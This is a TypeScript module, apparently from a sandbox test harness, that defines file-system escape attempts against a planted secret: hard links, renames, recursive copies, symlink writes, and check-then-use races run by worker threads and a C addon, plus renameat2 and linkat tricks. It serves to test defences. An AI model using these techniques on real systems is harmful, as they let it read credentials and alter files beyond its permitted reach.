// Files that are brought within reach by other names, and races between a check and its use.
import { copyFileSync, cpSync, linkSync, mkdirSync, openSync, closeSync, readFileSync, readSync, renameSync, symlinkSync } from "node:fs";
import { join } from "node:path";
import { Worker } from "node:worker_threads";
import { EVERYWHERE, NODE, RAW, type Attack, type Target } from "../attack.ts";
import { AT_FDCWD, text, type Raw } from "../raw.ts";

export const attacks: Attack[] = [
  { name: "files/hard-link", tries: "makes a hard link to the secret in a folder of its own", places: NODE, run: (at) => (linkSync(at.secret, own(at)), readFileSync(own(at), "latin1")) },
  { name: "files/rename-into-reach", tries: "moves the secret into a folder of its own", places: NODE, run: (at) => (renameSync(at.secret, own(at)), readFileSync(own(at), "latin1")) },
  { name: "files/rename-the-folder", tries: "moves the secret's whole folder into its own", places: NODE, run: (at) => (renameSync(join(at.folder, "home"), own(at)), readFileSync(join(own(at), ".npmrc"), "latin1")) },
  { name: "files/rename-out-over", tries: "moves a file of its own over one outside", places: NODE, run: (at) => (makeOwn(at), renameSync(own(at), at.keep)) },
  { name: "files/copy-out", tries: "copies the secret into its own folder", places: NODE, run: (at) => (copyFileSync(at.secret, own(at)), readFileSync(own(at), "latin1")) },
  { name: "files/copy-a-folder", tries: "fs.cp of the secret's folder, links followed", places: NODE, run: (at) => (cpSync(join(at.folder, "home"), own(at), { recursive: true, dereference: true }), readFileSync(join(own(at), ".npmrc"), "latin1")) },
  { name: "files/link-retargeted-by-rename", tries: "a chain of links, one of which a rename re-targets between two uses (CVE-2025-55130)", places: NODE, run: chainOfLinks },
  { name: "files/link-flipped-by-a-thread", tries: "one thread exchanges a link and a harmless file while another opens it thousands of times", places: ["main", "child"], run: flipInWorker },
  {
    name: "files/exchange-with-own", tries: "renameat2 with RENAME_EXCHANGE between its own file and the secret", places: RAW,
    run: (at, { raw }) => {
      makeOwn(at);
      raw.call("renameat2", AT_FDCWD, text(own(at)), AT_FDCWD, text(at.secret), 2);
      return raw.readFile(own(at));
    },
  },
  { name: "files/link-by-descriptor", tries: "linkat with AT_SYMLINK_FOLLOW through /proc/self/fd of an O_PATH descriptor", places: RAW, run: (at, { raw }) => linkDescriptor(at, raw) },
  {
    name: "files/names-flipped-by-a-thread", tries: "C exchanges a link and a harmless file without pause while another thread opens it", places: RAW,
    run: (at, { raw }) => {
      makeOwn(at);
      symlinkSync(at.secret, `${own(at)}-link`);
      const flipper = raw.addon.flipNames(own(at), `${own(at)}-link`);
      try {
        return readOften(own(at), 20_000);
      } finally {
        raw.addon.stop(flipper);
      }
    },
  },
  {
    name: "files/path-flipped-in-memory", tries: "C flips the path's bytes between a harmless file and the secret while the call reads them", places: RAW,
    run: (at, { raw }) => {
      makeOwn(at);
      const [one, other] = [Buffer.alloc(255), Buffer.alloc(255)];
      text(own(at)).copy(one);
      text(at.secret).copy(other);
      const path = Buffer.from(one);
      const flipper = raw.addon.flipMemory(path, one, other);
      try {
        let found = "";
        for (let turn = 0; turn < 20_000 && !found.includes("canary"); turn++) {
          const file = raw.try("openat", AT_FDCWD, path, 0, 0);
          if (file >= 0) found = raw.readAll(file);
        }
        return found;
      } finally {
        raw.addon.stop(flipper);
      }
    },
  },
  { name: "files/overwrite-outside", tries: "writes a file outside", places: EVERYWHERE, run: (at, by) => by.write(at.keep, "changed") },
  { name: "files/write-through-a-made-link", tries: "writes through a symlink of its own", places: EVERYWHERE, run: (at, by) => (symlinkSync(at.keep, own(at)), by.write(own(at), "changed")) },
  { name: "files/create-through-a-dangling-link", tries: "makes a file outside through a symlink to an absent name", places: EVERYWHERE, run: (at, by) => (symlinkSync(join(at.folder, "new"), own(at)), by.write(own(at), "made")) },
];

function temporary(): string {
  return process.env["TMPDIR"] ?? "/tmp";
}

function own(at: Target): string {
  return join(temporary(), `own-${at.token}`);
}

function makeOwn(at: Target): void {
  closeSync(openSync(own(at), "w"));
}

/** link → middle → harmless, checked; then middle becomes a link to the secret's folder; then link is used. */
function chainOfLinks(at: Target): string {
  const base = own(at);
  mkdirSync(base);
  mkdirSync(join(base, "harmless"));
  copyFileSync(at.readable, join(base, "harmless", "secret"));
  symlinkSync(join(base, "harmless"), join(base, "middle"));
  symlinkSync(join(base, "middle", "secret"), join(base, "link"));
  readFileSync(join(base, "link"));
  symlinkSync(at.folder, join(base, "next"));
  renameSync(join(base, "next"), join(base, "middle"));
  return readFileSync(join(base, "link"), "latin1");
}

async function flipInWorker(at: Target): Promise<string> {
  const base = own(at);
  mkdirSync(base);
  closeSync(openSync(join(base, "harmless"), "w"));
  const code = `const { symlinkSync, renameSync } = require("node:fs"); const { workerData: [base, secret], parentPort } = require("node:worker_threads");
    parentPort.postMessage("ready");
    for (;;) for (const goal of ["harmless", secret]) { symlinkSync(goal, base + "/next"); renameSync(base + "/next", base + "/link"); }`;
  const worker = new Worker(code, { eval: true, workerData: [base, at.secret] });
  await new Promise((ready) => worker.on("message", ready));
  const found = readOften(join(base, "link"), 20_000);
  await worker.terminate();
  return found;
}

function readOften(path: string, times: number): string {
  const buffer = Buffer.alloc(256);
  for (let turn = 0; turn < times; turn++) {
    const length = tryRead(path, buffer);
    if (length > 0) return buffer.toString("latin1", 0, length);
  }
  return "";
}

function tryRead(path: string, buffer: Buffer): number {
  let file: number | undefined;
  try {
    file = openSync(path, "r");
    return readSync(file, buffer);
  } catch {
    return 0;
  } finally {
    if (file !== undefined) closeSync(file);
  }
}

function linkDescriptor(at: Target, raw: Raw): string {
  const file = raw.open(at.secret, 0o10000000);
  raw.call("linkat", AT_FDCWD, text(`/proc/self/fd/${file}`), AT_FDCWD, text(own(at)), 0x400);
  return raw.readFile(own(at));
}

